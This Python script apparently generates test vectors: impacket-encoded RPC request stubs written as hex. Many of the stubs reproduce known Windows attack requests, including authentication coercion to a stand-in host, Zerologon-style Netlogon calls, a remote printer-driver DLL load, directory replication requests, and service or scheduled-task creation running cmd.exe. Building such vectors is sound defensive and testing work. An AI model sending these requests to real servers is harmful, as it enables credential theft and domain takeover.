#!/usr/bin/env python3
"""Writes vectors.txt: stubs of requests as impacket encodes them.

    apt-get install python3-impacket    # 0.10.0
    /usr/bin/python3 vectors.py > vectors.txt

A line is: name, interface, opnum, NDR32 or NDR64, hex. Operations that impacket
does not have are declared here from their IDL.
"""
import random

from impacket.dcerpc.v5 import atsvc, dcomrt, drsuapi, even, nrpc, par, rprn, rrp, sasec, scmr, srvs, tsch
from impacket.dcerpc.v5.dtypes import DWORD, GUID, LPWSTR, NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL, NDRPOINTER, NDRSTRUCT, NDRUniConformantArray
from impacket.uuid import string_to_bin, uuidtup_to_bin

random.randint = lambda a, b: 0x20000  # referent ids
NUL = '\0'
EVIL = '\\\\192.0.2.66\\share\\file.txt' + NUL

SPOOLSS = '12345678-1234-abcd-ef00-0123456789ab'
NETLOGON = '12345678-1234-abcd-ef00-01234567cffb'
SRVSVC = '4b324fc8-1670-01d3-1278-5a47bf6ee188'
ACTIVATION = '4d9f4ab8-7d1c-11cf-861e-0020af6e7c57'
SCM = '000001a0-0000-0000-c000-000000000046'
EFS = 'df1941c5-fe89-4e79-bf10-463657acf44d'
LSAEFS = 'c681d488-d850-11d0-8c52-00c04fd90f7e'
WINSPOOL = '76f03f96-cdfd-44fc-a22c-64950a001209'
DFS = '4fc742e0-4a10-11cf-8273-00aa004ae673'
FSRVP = 'a8e0653c-2744-4389-a61d-7373df8b2292'
EVENTLOG = '82273fdc-e32a-18c3-3f78-827929dc23ea'
DRSUAPI = 'e3514235-4b06-11d1-ab04-00c04fc2dcd2'
SVCCTL = '367abb81-9844-35f1-ad32-98f038001003'
TASKS = '86d35949-83c9-4044-b424-db363231fd0c'
ATSVC = '1ff70682-0a51-30e8-076d-740be8cee98b'
SASEC = '378e52b0-c0a9-11cf-822d-00aa0051e40f'
WINREG = '338cd001-2244-31f1-aaaa-900038001003'

HANDLE = b'\0' * 4 + bytes(range(16))


class OctetArray(NDRUniConformantArray):
    item = 'c'


class OctetPointer(NDRPOINTER):
    referent = (('Data', OctetArray),)


class EFS_RPC_BLOB(NDRSTRUCT):
    structure = (('cbData', DWORD), ('bData', OctetPointer))


class PEFS_RPC_BLOB(NDRPOINTER):
    referent = (('Data', EFS_RPC_BLOB),)


def declare(*fields):
    return type('Call', (NDRCALL,), {'structure': fields})


FileName = declare(('FileName', WSTR), ('Flags', DWORD))
TwoFiles = declare(('Src', WSTR), ('Dest', WSTR), ('Flags', DWORD))
BlobFile = declare(('Flags', DWORD), ('Reserved', PEFS_RPC_BLOB), ('FileName', WSTR))
RemoteFindFirst = declare(('hPrinter', rprn.PRINTER_HANDLE), ('fdwFlags', DWORD), ('fdwOptions', DWORD),
                          ('pszLocalMachine', LPWSTR), ('dwPrinterLocal', DWORD), ('cbBuffer', DWORD))
StdRoot = declare(('ServerName', WSTR), ('RootShare', WSTR), ('Comment', WSTR), ('ApiFlags', DWORD))
DfsAdd = declare(('DfsEntryPath', WSTR), ('ServerName', WSTR), ('ShareName', LPWSTR), ('Comment', LPWSTR), ('Flags', DWORD))
DfsRemove = declare(('DfsEntryPath', WSTR), ('ServerName', LPWSTR), ('ShareName', LPWSTR))
DfsAdd2 = declare(('DfsEntryPath', WSTR), ('DcName', WSTR), ('ServerName', WSTR), ('ShareName', LPWSTR))
DfsRemove2 = declare(('DfsEntryPath', WSTR), ('DcName', WSTR), ('ServerName', LPWSTR), ('ShareName', LPWSTR))
RootTarget = declare(('pDfsPath', LPWSTR), ('pTargetPath', LPWSTR), ('MajorVersion', ULONG))
Share = declare(('ShareName', WSTR))
IDsShare = declare(('a', GUID), ('b', GUID), ('ShareName', WSTR))
PathType = declare(('ServerName', LPWSTR), ('PathName', WSTR), ('Flags', DWORD))

calls = []


def vector(name, iface, opnum, cls):
    def add(fill):
        calls.append((name, iface, opnum, cls, fill))
        return fill
    return add


@vector('NetprPathType', SRVSVC, 30, PathType)
@vector('NetprPathCanonicalize', SRVSVC, 31, srvs.NetprPathCanonicalize)
@vector('NetprPathCompare', SRVSVC, 32, srvs.NetprPathCompare)
def path(r):
    r['ServerName'] = 'SRV' + NUL
    for n in ('PathName', 'PathName1'):
        if n in r.fields:
            r[n] = '\\c\\..\\..\\AAAA' + NUL
    for n in ('Prefix', 'PathName2'):
        if n in r.fields:
            r[n] = 'D:' + NUL
    if 'OutbufLen' in r.fields:
        r['OutbufLen'] = 1000
    if 'PathType' in r.fields:
        r['PathType'] = 3
    r['Flags'] = 1


@vector('NetprNameCanonicalize', SRVSVC, 34, srvs.NetprNameCanonicalize)
def name(r):
    r['ServerName'] = NULL
    r['Name'] = 'share' + NUL
    r['OutbufLen'] = 100
    r['NameType'] = 9
    r['Flags'] = 0


def orpcthis(wide):
    t = dcomrt.ORPCTHIS(isNDR64=wide)
    t['cid'] = bytes(range(16))
    t['extensions'] = NULL
    t['flags'] = 1
    return t


@vector('RemoteActivation', ACTIVATION, 0, dcomrt.RemoteActivation)
def activation(r):
    r['ORPCthis'] = orpcthis(r._isNDR64)
    r['Clsid'] = string_to_bin('aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee')
    r['pwszObjectName'] = '\\\\' + 'A' * 40 + '\\C$\\1.doc' + NUL
    r['pObjectStorage'] = NULL
    r['ClientImpLevel'] = 2
    r['Mode'] = 0
    r['Interfaces'] = 1
    iid = dcomrt.IID()
    iid['Data'] = dcomrt.IID_IRemUnknown[:-4]
    r['pIIDs'].append(iid)
    r['cRequestedProtseqs'] = 1
    r['aRequestedProtseqs'].append(7)


@vector('RemoteCreateInstance', SCM, 4, dcomrt.RemoteCreateInstance)
@vector('RemoteGetClassObject', SCM, 3, dcomrt.RemoteGetClassObject)
def properties(r):
    r['ORPCthis'] = orpcthis(r._isNDR64)
    if 'pUnkOuter' in r.fields:
        r['pUnkOuter'] = NULL
    blob = dcomrt.ACTIVATION_BLOB()
    header = blob['CustomHeader']
    header['destCtx'] = 2
    header['pdwReserved'] = NULL
    what = dcomrt.InstantiationInfoData()
    what['classId'] = string_to_bin('aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee')
    what['cIID'] = 1
    iid = dcomrt.IID()
    iid['Data'] = dcomrt.IID_IRemUnknown[:-4]
    what['pIID'].append(iid)
    where = dcomrt.InstanceInfoData()
    where['fileName'] = '\\\\' + 'B' * 40 + '\\C$\\1.doc' + NUL
    where['ifdROT'] = NULL
    where['ifdStg'] = NULL
    all = b''
    for clsid, p in ((dcomrt.CLSID_InstantiationInfo, what), (dcomrt.CLSID_InstanceInfo, where)):
        c = dcomrt.CLSID()
        c['Data'] = clsid
        header['pclsid'].append(c)
        b = p.getData() + p.getDataReferents()
        b += b'\xfa' * (-len(b) % 8)
        n = dcomrt.DWORD()
        n['Data'] = len(b)
        header['pSizes'].append(n)
        all += b
    blob['Property'] = all
    ref = dcomrt.OBJREF_CUSTOM()
    ref['iid'] = dcomrt.IID_IActivationPropertiesIn[:-4]
    ref['clsid'] = dcomrt.CLSID_ActivationPropertiesIn
    ref['pObjectData'] = blob.getData()
    ref['ObjectReferenceSize'] = len(ref['pObjectData']) + 8
    r['pActProperties']['ulCntData'] = len(ref.getData())
    r['pActProperties']['abData'] = list(ref.getData())


@vector('NetrServerReqChallenge', NETLOGON, 4, nrpc.NetrServerReqChallenge)
@vector('NetrServerAuthenticate', NETLOGON, 5, nrpc.NetrServerAuthenticate)
@vector('NetrServerAuthenticate2', NETLOGON, 15, nrpc.NetrServerAuthenticate2)
@vector('NetrServerAuthenticate3', NETLOGON, 26, nrpc.NetrServerAuthenticate3)
@vector('NetrServerPasswordSet2', NETLOGON, 30, nrpc.NetrServerPasswordSet2)
def channel(r):
    r['PrimaryName'] = '\\\\DC1' + NUL
    r['ComputerName'] = 'DC1' + NUL
    if 'AccountName' in r.fields:
        r['AccountName'] = 'DC1$' + NUL
        r['SecureChannelType'] = 6
    for n in ('ClientChallenge', 'ClientCredential'):
        if n in r.fields:
            r[n] = b'\0' * 8
    if 'Authenticator' in r.fields:
        r['Authenticator']['Credential'] = b'\0' * 5 + b'\1\2\3'
        r['Authenticator']['Timestamp'] = 0
        r['ClearNewPassword'] = b'\0' * 516
    if 'NegotiateFlags' in r.fields:
        r['NegotiateFlags'] = 0x212fffff


@vector('EfsRpcOpenFileRaw', LSAEFS, 0, FileName)
@vector('EfsRpcEncryptFileSrv', EFS, 4, FileName)
def file(r):
    r['FileName'] = EVIL
    r['Flags'] = 0


@vector('EfsRpcDuplicateEncryptionInfoFile', EFS, 13, TwoFiles)
def two(r):
    r['Src'] = 'C:\\a' + NUL
    r['Dest'] = EVIL
    r['Flags'] = 0


@vector('EfsRpcAddUsersToFileEx', EFS, 15, BlobFile)
@vector('EfsRpcFileKeyInfoEx', EFS, 16, BlobFile)
def blob(r):
    r['Flags'] = 2
    r['Reserved']['cbData'] = 3
    r['Reserved']['bData'] = [b'a', b'b', b'c']
    r['FileName'] = EVIL


@vector('EfsRpcAddUsersToFileEx without blob', EFS, 15, BlobFile)
def noblob(r):
    r['Flags'] = 2
    r['Reserved'] = NULL
    r['FileName'] = EVIL


@vector('RpcRemoteFindFirstPrinterChangeNotification', SPOOLSS, 62, RemoteFindFirst)
@vector('RpcRemoteFindFirstPrinterChangeNotificationEx', SPOOLSS, 65, rprn.RpcRemoteFindFirstPrinterChangeNotificationEx)
def printer(r):
    r['hPrinter'] = HANDLE
    r['fdwFlags'] = 0x100
    r['fdwOptions'] = 0
    r['pszLocalMachine'] = '\\\\192.0.2.66' + NUL
    r['dwPrinterLocal'] = 0
    if 'pOptions' in r.fields:
        r['pOptions'] = NULL
    else:
        r['cbBuffer'] = 0


@vector('RpcAddPrinterDriverEx', SPOOLSS, 89, rprn.RpcAddPrinterDriverEx)
def driver(r):
    r['pName'] = '\\\\SRV' + NUL
    fill_driver(r, rprn)


@vector('RpcAsyncAddPrinterDriver', WINSPOOL, 39, par.RpcAsyncAddPrinterDriver)
def async_driver(r):
    r['pName'] = '\\\\SRV' + NUL
    fill_driver(r, par)


def fill_driver(r, mod):
    c = mod.DRIVER_CONTAINER(isNDR64=r._isNDR64)
    c['Level'] = 2
    c['DriverInfo']['tag'] = 2
    i = c['DriverInfo']['Level2']
    i['cVersion'] = 3
    i['pName'] = '1234' + NUL
    i['pEnvironment'] = 'Windows x64' + NUL
    i['pDriverPath'] = 'C:\\Windows\\UNIDRV.DLL' + NUL
    i['pDataFile'] = '\\??\\UNC\\192.0.2.66\\share\\evil.dll' + NUL
    i['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll' + NUL
    r['pDriverContainer'] = c
    r['dwFileCopyFlags'] = 0x8014


@vector('NetrDfsAddStdRoot', DFS, 12, StdRoot)
@vector('NetrDfsRemoveStdRoot', DFS, 13, StdRoot)
def root(r):
    r['ServerName'] = '192.0.2.66' + NUL
    r['RootShare'] = 'test' + NUL
    r['Comment'] = 'x' + NUL
    r['ApiFlags'] = 1


@vector('NetrDfsAdd', DFS, 1, DfsAdd)
@vector('NetrDfsRemove', DFS, 2, DfsRemove)
@vector('NetrDfsAdd2', DFS, 19, DfsAdd2)
@vector('NetrDfsRemove2', DFS, 20, DfsRemove2)
def link(r):
    r['DfsEntryPath'] = '\\\\example.org\\dfs\\link' + NUL
    r['ServerName'] = '192.0.2.66' + NUL
    r['ShareName'] = 'share' + NUL
    if 'DcName' in r.fields:
        r['DcName'] = 'DC1' + NUL
    if 'Comment' in r.fields:
        r['Comment'] = NULL
        r['Flags'] = 0


@vector('NetrDfsAddRootTarget', DFS, 23, RootTarget)
def target(r):
    r['pDfsPath'] = NULL
    r['pTargetPath'] = EVIL
    r['MajorVersion'] = 0


@vector('IsPathSupported', FSRVP, 8, Share)
@vector('IsPathShadowCopied', FSRVP, 9, Share)
@vector('AddToShadowCopySet', FSRVP, 3, IDsShare)
def share(r):
    r['ShareName'] = EVIL


@vector('ElfrOpenBELW', EVENTLOG, 9, even.ElfrOpenBELW)
def log(r):
    r['UNCServerName'] = 'SRV' + NUL
    r['BackupFileName'] = '\\??\\UNC\\192.0.2.66\\share\\aa'
    r['MajorVersion'] = 1
    r['MinorVersion'] = 1


@vector('ElfrBackupELFW', EVENTLOG, 1, even.ElfrBackupELFW)
def backup(r):
    r['LogHandle'] = HANDLE
    r['BackupFileName'] = '\\??\\UNC\\192.0.2.66\\share\\aa'


@vector('DRSBind', DRSUAPI, 0, drsuapi.DRSBind)
def bind(r):
    r['puuidClientDsa'] = drsuapi.NTDSAPI_CLIENT_GUID
    r['pextClient'] = NULL


def changes(version):
    def fill(r):
        r['hDrs'] = HANDLE
        r['dwInVersion'] = version
        r['pmsgIn']['tag'] = version
        v = r['pmsgIn']['V%d' % version]
        v['uuidDsaObjDest'] = drsuapi.NTDSAPI_CLIENT_GUID[:16]
        v['uuidInvocIdSrc'] = bytes(16)
        n = drsuapi.DSNAME(isNDR64=r._isNDR64)
        n['SidLen'] = 0
        n['Sid'] = b''
        n['Guid'] = bytes(16)
        n['NameLen'] = len('DC=example,DC=org')
        n['StringName'] = 'DC=example,DC=org' + NUL
        n['structLen'] = len(n.getDataReferents()) + len(n.getData())
        v['pNC'] = n
        v['usnvecFrom']['usnHighObjUpdate'] = 0
        v['usnvecFrom']['usnHighPropUpdate'] = 0
        v['pUpToDateVecDest' + ('V1' if version == 5 else '')] = NULL
        v['ulFlags'] = 0x30
        v['cMaxObjects'] = 1
        v['cMaxBytes'] = 0
        v['ulExtendedOp'] = 6
        if version != 5:
            v['pPartialAttrSet'] = NULL
            v['pPartialAttrSetEx1'] = NULL
            v['PrefixTableDest']['pPrefixEntry'] = NULL
    return fill


for version in (5, 8, 10):
    vector('DRSGetNCChanges of version %d' % version, DRSUAPI, 3, drsuapi.DRSGetNCChanges)(changes(version))


@vector('RCreateServiceW', SVCCTL, 12, scmr.RCreateServiceW)
def create(r):
    r['hSCManager'] = HANDLE
    r['lpServiceName'] = 'BTOBTO' + NUL
    r['lpDisplayName'] = 'BTOBTO' + NUL
    r['dwDesiredAccess'] = 0xf01ff
    r['dwServiceType'] = 0x10
    r['dwStartType'] = 3
    r['dwErrorControl'] = 0
    r['lpBinaryPathName'] = '%COMSPEC% /Q /c echo dir' + NUL
    service_tail(r)


@vector('RChangeServiceConfigW', SVCCTL, 11, scmr.RChangeServiceConfigW)
def change(r):
    r['hService'] = HANDLE
    r['dwServiceType'] = 0x10
    r['dwStartType'] = 3
    r['dwErrorControl'] = 0
    r['lpBinaryPathName'] = '%COMSPEC% /Q /c echo dir' + NUL
    service_tail(r)
    r['lpDisplayName'] = NULL


def service_tail(r):
    r['lpLoadOrderGroup'] = 'G' + NUL
    r['lpdwTagId'] = NULL
    r['lpDependencies'] = [b'a', b'b', b'c']
    r['dwDependSize'] = 3
    r['lpServiceStartName'] = 'LocalSystem' + NUL
    r['lpPassword'] = NULL
    r['dwPwSize'] = 0


@vector('ROpenServiceW', SVCCTL, 16, scmr.ROpenServiceW)
def open_service(r):
    r['hSCManager'] = HANDLE
    r['lpServiceName'] = 'RemoteRegistry' + NUL
    r['dwDesiredAccess'] = 0xf01ff


@vector('SchRpcRegisterTask', TASKS, 1, tsch.SchRpcRegisterTask)
def task(r):
    r['path'] = '\\wXYZ' + NUL
    r['xml'] = '<Task><Actions Context="LocalSystem"><Exec><Command>cmd.exe</Command><Arguments>/C whoami</Arguments></Exec></Actions></Task>' + NUL
    r['flags'] = 6
    r['sddl'] = NULL
    r['logonType'] = 0
    r['cCreds'] = 0
    r['pCreds'] = NULL


@vector('SchRpcRun', TASKS, 12, tsch.SchRpcRun)
def run(r):
    r['path'] = '\\wXYZ' + NUL
    r['cArgs'] = 0
    r['pArgs'] = NULL
    r['flags'] = 0
    r['sessionId'] = 0
    r['user'] = NULL


@vector('NetrJobAdd', ATSVC, 0, atsvc.NetrJobAdd)
def job(r):
    r['ServerName'] = NULL
    i = r['pAtInfo']
    i['JobTime'] = 1000
    i['DaysOfMonth'] = 0
    i['DaysOfWeek'] = 0
    i['Flags'] = 0
    i['Command'] = '%COMSPEC% /C whoami' + NUL


@vector('SASetAccountInformation', SASEC, 0, sasec.SASetAccountInformation)
def account(r):
    r['Handle'] = NULL
    r['pwszJobName'] = 'job.job' + NUL
    r['pwszAccount'] = 'LAB\\admin' + NUL
    r['pwszPassword'] = NULL
    r['dwJobFlags'] = 0


@vector('BaseRegOpenKey', WINREG, 15, rrp.BaseRegOpenKey)
def open_key(r):
    r['hKey']['context_handle_uuid'] = HANDLE[4:]
    r['lpSubKey'] = 'SYSTEM\\CurrentControlSet' + NUL
    r['dwOptions'] = 0
    r['samDesired'] = 0x2000000


@vector('BaseRegSetValue', WINREG, 22, rrp.BaseRegSetValue)
def set_value(r):
    r['hKey']['context_handle_uuid'] = HANDLE[4:]
    r['lpValueName'] = 'ImagePath' + NUL
    r['dwType'] = 1
    r['lpData'] = [b'a', b'\0']
    r['cbData'] = 2


@vector('BaseRegSaveKey', WINREG, 20, rrp.BaseRegSaveKey)
def save_key(r):
    r['hKey']['context_handle_uuid'] = HANDLE[4:]
    r['lpFile'] = '..\\Temp\\abc.tmp' + NUL
    r['pSecurityAttributes'] = NULL


@vector('BaseRegLoadKey', WINREG, 13, rrp.BaseRegLoadKey)
def load_key(r):
    r['hKey']['context_handle_uuid'] = HANDLE[4:]
    r['lpSubKey'] = 'HIVE' + NUL
    r['lpFile'] = EVIL


@vector('BaseRegReplaceKey', WINREG, 18, rrp.BaseRegReplaceKey)
def replace_key(r):
    r['hKey']['context_handle_uuid'] = HANDLE[4:]
    r['lpSubKey'] = 'HIVE' + NUL
    r['lpNewFile'] = EVIL
    r['lpOldFile'] = 'C:\\old' + NUL


for name, iface, opnum, cls, fill in calls:
    for wide in (False, True):
        r = cls(isNDR64=wide)
        fill(r)
        print('\t'.join((name, iface, str(opnum), 'NDR64' if wide else 'NDR32', r.getData().hex())))
